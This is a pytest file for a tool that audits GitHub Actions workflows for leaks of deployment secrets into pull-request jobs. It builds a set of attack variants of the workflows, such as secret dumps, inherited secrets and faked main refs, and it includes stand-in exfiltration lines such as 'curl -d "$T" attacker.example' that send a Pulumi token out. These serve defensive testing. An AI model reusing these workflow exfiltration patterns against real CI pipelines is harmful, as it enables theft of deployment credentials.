"""The static check of the workflows (supagate/delivery/workflow_audit.py), and the on-main
check deploy-prod runs, in real git repositories.

Each attack is the generated workflows with one change an attacker (or a careless edit)
would make: the audit names it. The generated files themselves, and honest additions,
pass. The guarantee itself is GitHub's: secrets only in environments whose branch policy
refuses pull-request refs (tests/offline/test_program_mocks.py checks the stack creates
them so); this check keeps the workflows from needing anything else."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from supagate.config.loading import settings_from_stack_file
from supagate.delivery.environments import PRODUCTION, held_secrets, kept_to_main
from supagate.delivery.workflow_audit import audit, load
from supagate.delivery.workflows import ACTIONS, ON_MAIN_SCRIPT
from tests.conftest import APP, PROJECT
from tests.delivery.test_workflows import FILES

PROD = settings_from_stack_file("prod", APP / "Pulumi.prod.yaml")
STAGING = settings_from_stack_file("staging", APP / "Pulumi.staging.yaml")
HELD = held_secrets(set(PROD.alert_secrets))
KEPT = kept_to_main(STAGING, PROD)
CHECKOUT = ACTIONS["checkout"].ref
# Local actions the repository holds, as `read` gives them to the audit.
ACTIONS_IN_REPOSITORY = {
    ".github/actions/lint/action.yml": yaml.safe_dump({"name": "lint", "runs": {"using": "composite", "steps": [
        {"uses": ACTIONS["setup-uv"].ref}, {"run": "uv run ruff check", "shell": "bash"}]}}),
    ".github/actions/tagged/action.yml": yaml.safe_dump({"name": "tagged", "runs": {"using": "composite", "steps": [
        {"uses": "astral-sh/setup-uv@v6"}]}}),
    ".github/actions/nested/action.yml": yaml.safe_dump({"name": "nested", "runs": {"using": "composite", "steps": [
        {"uses": "./.github/actions/tagged"}]}}),
    ".github/actions/broken/action.yml": "runs: [unclosed",
}


def problems(files: dict[str, str], kept: set[str] = KEPT) -> list[str]:
    return [str(p) for p in audit(files, HELD, PRODUCTION, kept, read=ACTIONS_IN_REPOSITORY.get)]


def changed(name: str, change) -> dict[str, str]:
    """The generated workflows with `change(document)` applied to one of them."""
    documents = {n: load(text) for n, text in FILES.items()}
    change(documents[name])
    return {n: yaml.safe_dump(d, sort_keys=False) for n, d in documents.items()}


def with_file(name: str, document: dict) -> dict[str, str]:
    return {**FILES, name: yaml.safe_dump(document, sort_keys=False)}


def test_the_generated_workflows_pass():
    assert problems(FILES) == []


def _step(job: dict, starts: str) -> dict:
    return next(s for s in job["steps"] if s["name"].startswith(starts))


ATTACKS = {
    # The old pr.yml: the prod preview ran the branch's code with a token that decrypts prod.
    "a pull request job with the Pulumi token": (changed("pr.yml", lambda d: d["jobs"]["preview-prod"].update(
        env={"PULUMI_ACCESS_TOKEN": "${{ secrets.PULUMI_ACCESS_TOKEN }}"})),
        "pr.yml: job preview-prod: a pull request can start it and it reads PULUMI_ACCESS_TOKEN"),
    "a pull request job naming the production environment": (changed("pr.yml", lambda d: d["jobs"]["gate"].update(
        environment="production")), "pr.yml: job gate: a pull request can start it and it names environment production"),
    "pull_request_target with a secret in a step's with": (with_file("label.yml", {
        "on": {"pull_request_target": {}}, "jobs": {"label": {"runs-on": "ubuntu-22.04", "steps": [
            {"uses": CHECKOUT, "with": {"token": "${{ secrets['SUPABASE_ACCESS_TOKEN'] }}"}}]}}}),
        "label.yml: job label: a pull request can start it and it reads SUPABASE_ACCESS_TOKEN"),
    "a pull request job dumping the whole secrets context": (changed("pr.yml", lambda d: d["jobs"]["tests"][
        "steps"][-1].update(env={"ALL": "${{ toJSON(secrets) }}"})),
        "pr.yml: job tests: a pull request can start it and it reads every secret"),
    "a pull request job passing every secret to a reusable workflow": (changed("pr.yml", lambda d: d["jobs"].update(
        reuse={"uses": "./.github/workflows/reuse.yml", "secrets": "inherit"})),
        "pr.yml: job reuse: a pull request can start it and it reads every secret"),
    "a workflow_run chained to the pull request workflow": (with_file("after-pr.yml", {
        "on": {"workflow_run": {"workflows": ["pull request"], "types": ["completed"]}},
        "jobs": {"deploy": {"runs-on": "ubuntu-22.04", "environment": "production", "steps": [
            {"run": "pulumi up", "env": {"T": "${{ secrets.PULUMI_ACCESS_TOKEN }}"}}]}}}),
        "after-pr.yml: job deploy: workflow_run can start it after a pull request's run"),
    "a reusable workflow called from a pull request with every secret": (
        {**changed("pr.yml", lambda d: d["jobs"].update(
            reuse={"uses": "./.github/workflows/reuse.yml", "secrets": "inherit"})),
         "reuse.yml": yaml.safe_dump({"on": {"workflow_call": {}}, "jobs": {"up": {"runs-on": "ubuntu-22.04", "steps": [
             {"run": "env", "env": {"URL": "${{ secrets.SUPABASE_DB_URL }}"}}]}}})},
        "reuse.yml: job up: a pull request can start it (through pr.yml) and it reads SUPABASE_DB_URL"),
    "a repository secret (the health job without its environment)": (changed("health.yml", lambda d: d["jobs"][
        "probe"].pop("environment")), "health.yml: job probe: reads ONCALL_WEBHOOK_HMAC, ONCALL_WEBHOOK_URL, "
                                      "PROD_VERIFY_DB_URL in no environment, so from the repository"),
    "a secret the job's environment does not hold": (changed("deploy-staging.yml", lambda d: d["jobs"]["deploy"][
        "env"].update(URL="${{ secrets.PROD_VERIFY_DB_URL }}")),
        "deploy-staging.yml: job deploy: reads PROD_VERIFY_DB_URL in environment staging"),
    "an action pinned by a tag": (changed("pr.yml", lambda d: d["jobs"]["tests"]["steps"][1].update(
        uses="astral-sh/setup-uv@v6.3.1")), "pr.yml: job tests: uses astral-sh/setup-uv@v6.3.1 without a full commit"),
    "an action pinned by a short SHA": (changed("health.yml", lambda d: d["jobs"]["probe"]["steps"][0].update(
        uses="actions/checkout@11bd719")), "health.yml: job probe: uses actions/checkout@11bd719 without a full"),
    "deploy-prod with no on-main check before the deploy": (changed("deploy-prod.yml", lambda d: d["jobs"][
        "deploy"].pop("needs")), "deploy-prod.yml: job deploy: deploys to production without first needing"),
    "an on-main check that may fail quietly": (changed("deploy-prod.yml", lambda d: _step(d["jobs"]["release-on-main"],
                                                       "Check the release").update({"continue-on-error": True})),
                                               "deploy-prod.yml: job deploy: deploys to production without first"),
    "an on-main check that checks nothing": (changed("deploy-prod.yml", lambda d: _step(
        d["jobs"]["release-on-main"], "Check the release").update(run="echo on main")),
        "deploy-prod.yml: job deploy: deploys to production without first needing"),
    "an on-main check whose failure is swallowed": (changed("deploy-prod.yml", lambda d: _step(
        d["jobs"]["release-on-main"], "Check the release").update(run=ON_MAIN_SCRIPT.replace(
            "FETCH_HEAD; then", "FETCH_HEAD || true; then"))),
        "deploy-prod.yml: job deploy: deploys to production without first needing"),
    "a rollback that runs after the on-main check failed": (changed("deploy-prod.yml", lambda d: d["jobs"][
        "rollback"].update({"if": "${{ always() }}"})), "deploy-prod.yml: job rollback: its if (${{ always() }}) can "
                                                        "run it after release-on-main failed"),
}


@pytest.mark.parametrize("files, expected", list(ATTACKS.values()), ids=list(ATTACKS))
def test_the_audit_names_each_attack(files, expected):
    found = problems(files)
    assert any(p.startswith(expected) for p in found), found


def test_honest_additions_pass():
    lint = {"name": "lint", "on": {"pull_request": {}}, "permissions": {"contents": "read"}, "jobs": {"lint": {
        "runs-on": "ubuntu-22.04", "steps": [{"uses": CHECKOUT, "with": {"persist-credentials": False}},
                                             {"uses": "./.github/actions/lint"},
                                             {"run": "gh pr view", "env": {"GH_TOKEN": "${{ secrets.GITHUB_TOKEN }}"}}]}}}
    nightly = {"on": {"schedule": [{"cron": "3 4 * * *"}]}, "jobs": {"verify": {
        "runs-on": "ubuntu-22.04", "environment": "production-health",
        "steps": [{"run": "uv run supagate verify", "env": {"SUPABASE_DB_URL": "${{ secrets.PROD_VERIFY_DB_URL }}"}}]}}}
    assert problems({**FILES, "lint.yml": yaml.safe_dump(lint), "nightly.yml": yaml.safe_dump(nightly)}) == []


def test_an_unreadable_workflow_is_reported_not_skipped():
    assert problems({**FILES, "broken.yml": "jobs: [unclosed"})[0].startswith("broken.yml: cannot be read")


# ---------------------------------------------------------------- the on-main check, in git

def _git(cwd: Path, *args: str) -> str:
    env = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
    return subprocess.run(["git", "-c", "user.name=dev", "-c", "user.email=dev@example.com", "-c",
                           "init.defaultBranch=main", *args], cwd=cwd, env=env, check=True, capture_output=True,
                          text=True, timeout=60).stdout.strip()


@pytest.fixture(scope="module")
def origin(tmp_path_factory) -> Path:
    """A repository whose main holds v1.0.0 (also annotated: v1.0.1) and whose unreviewed
    branch holds v6.6.6."""
    root = tmp_path_factory.mktemp("git")
    origin, work = root / "origin.git", root / "work"
    _git(root, "init", "--bare", str(origin))
    _git(root, "init", str(work))
    (work / "README").write_text("reviewed\n")
    _git(work, "add", "README")
    _git(work, "commit", "-m", "reviewed")
    _git(work, "tag", "v1.0.0")
    _git(work, "tag", "-a", "v1.0.1", "-m", "annotated")
    _git(work, "checkout", "-b", "feature")
    (work / "steal.sh").write_text("curl attacker.example\n")
    _git(work, "add", "steal.sh")
    _git(work, "commit", "-m", "unreviewed")
    _git(work, "tag", "v6.6.6")
    _git(work, "push", str(origin), "main", "feature", "--tags")
    return origin


def _runner(origin: Path, tmp_path: Path, tag: str, *, all_branches: bool = True) -> Path:
    """What actions/checkout leaves: with fetch-depth 0, every branch under
    refs/remotes/origin/ and every tag; the tag's commit checked out."""
    runner = tmp_path / "runner"
    _git(tmp_path, "init", str(runner))
    _git(runner, "remote", "add", "origin", str(origin))
    specs = ["+refs/heads/*:refs/remotes/origin/*", "+refs/tags/*:refs/tags/*"] if all_branches else \
        [f"+refs/tags/{tag}:refs/tags/{tag}"]
    _git(runner, "fetch", "origin", *specs)
    _git(runner, "checkout", "--detach", tag)
    return runner


def _check(runner: Path, release: str) -> subprocess.CompletedProcess:
    return subprocess.run(["bash", "-c", ON_MAIN_SCRIPT], cwd=runner, env={**os.environ, "RELEASE": release},
                          capture_output=True, text=True, timeout=60)


@pytest.mark.parametrize("tag", ["v1.0.0", "v1.0.1"])
def test_a_release_tag_on_main_passes(origin, tmp_path, tag):
    done = _check(_runner(origin, tmp_path, tag), tag)
    assert done.returncode == 0, done.stderr
    assert f"{tag} (" in done.stdout and "is on main" in done.stdout


def test_a_tag_on_an_unreviewed_commit_is_refused(origin, tmp_path):
    done = _check(_runner(origin, tmp_path, "v6.6.6"), "v6.6.6")
    assert done.returncode == 1 and "v6.6.6" in done.stderr and "is not on main" in done.stderr


def test_the_check_fetches_main_itself(origin, tmp_path):
    """A checkout that fetched only the tag: the check fetches main on its own."""
    done = _check(_runner(origin, tmp_path, "v1.0.0", all_branches=False), "v1.0.0")
    assert done.returncode == 0, done.stderr
    assert "v1.0.0 (" in done.stdout and "is on main" in done.stdout


def test_a_faked_main_ref_in_the_checkout_proves_nothing(origin, tmp_path):
    """Red team: a step before the check ran `git update-ref refs/remotes/origin/main HEAD`
    and the old check, which trusted that ref, passed an unreviewed tag. (The audit also
    refuses any step before the check: tests/delivery/test_workflow_audit_bypasses.py.)"""
    runner = _runner(origin, tmp_path, "v6.6.6")
    _git(runner, "update-ref", "refs/remotes/origin/main", "HEAD")
    done = _check(runner, "v6.6.6")
    assert done.returncode == 1 and "v6.6.6" in done.stderr and "is not on main" in done.stderr


def test_when_main_cannot_be_fetched_the_check_fails_closed(origin, tmp_path):
    runner = _runner(origin, tmp_path, "v1.0.0")
    _git(runner, "remote", "set-url", "origin", str(tmp_path / "gone.git"))
    done = _check(runner, "v1.0.0")
    assert done.returncode == 1 and "could not fetch main" in done.stderr


# ---------------------------------------------------------------- `supagate workflows` audits every file

def test_supagate_workflows_refuses_a_hand_added_workflow_that_leaks_a_secret(tmp_path):
    from tests.cli.test_cli import supagate

    root = tmp_path / "project"
    root.mkdir()
    for name in ("Pulumi.yaml", "Pulumi.staging.yaml", "Pulumi.prod.yaml"):
        shutil.copy(PROJECT / name, root / name)
    shutil.copytree(PROJECT / ".github", root / ".github")
    assert supagate("workflows", cwd=root).returncode == 0
    steal = {"on": {"pull_request": {}}, "jobs": {"steal": {"runs-on": "ubuntu-22.04", "steps": [
        {"run": "curl -d \"$T\" attacker.example", "env": {"T": "${{ secrets.PULUMI_ACCESS_TOKEN }}"}}]}}}
    (root / ".github" / "workflows" / "steal.yml").write_text(yaml.safe_dump(steal))
    refused = supagate("workflows", cwd=root)
    assert refused.returncode == 1
    assert ".github/workflows/steal.yml: job steal: a pull request can start it and it reads PULUMI_ACCESS_TOKEN" \
        in refused.stderr
    steal["jobs"]["steal"]["steps"][0]["env"] = {}  # the same job without the secret is an honest one
    (root / ".github" / "workflows" / "steal.yml").write_text(yaml.safe_dump(steal))
    assert supagate("workflows", cwd=root).returncode == 0


def test_supagate_workflows_reads_local_actions_from_the_repository(tmp_path):
    """The CLI hands the audit the repository's files: a local composite action is read and
    its steps checked like the workflow's own."""
    from tests.cli.test_cli import supagate

    root = tmp_path / "project"
    root.mkdir()
    for name in ("Pulumi.yaml", "Pulumi.staging.yaml", "Pulumi.prod.yaml"):
        shutil.copy(PROJECT / name, root / name)
    shutil.copytree(PROJECT / ".github", root / ".github")
    lint = {"on": {"pull_request": {}}, "jobs": {"lint": {"runs-on": "ubuntu-22.04", "steps": [
        {"uses": CHECKOUT}, {"uses": "./.github/actions/setup"}]}}}
    (root / ".github" / "workflows" / "lint.yml").write_text(yaml.safe_dump(lint))
    refused = supagate("workflows", cwd=root)
    assert refused.returncode == 1 and "uses ./.github/actions/setup, whose action.yml the audit cannot read" \
        in refused.stderr
    action = root / ".github" / "actions" / "setup" / "action.yml"
    action.parent.mkdir(parents=True)
    action.write_text(yaml.safe_dump({"runs": {"using": "composite", "steps": [{"uses": "astral-sh/setup-uv@v6"}]}}))
    refused = supagate("workflows", cwd=root)
    assert refused.returncode == 1 and "uses astral-sh/setup-uv@v6 (in ./.github/actions/setup) without a full" \
        in refused.stderr
    action.write_text(yaml.safe_dump({"runs": {"using": "composite", "steps": [{"uses": ACTIONS["setup-uv"].ref}]}}))
    assert supagate("workflows", cwd=root).returncode == 0
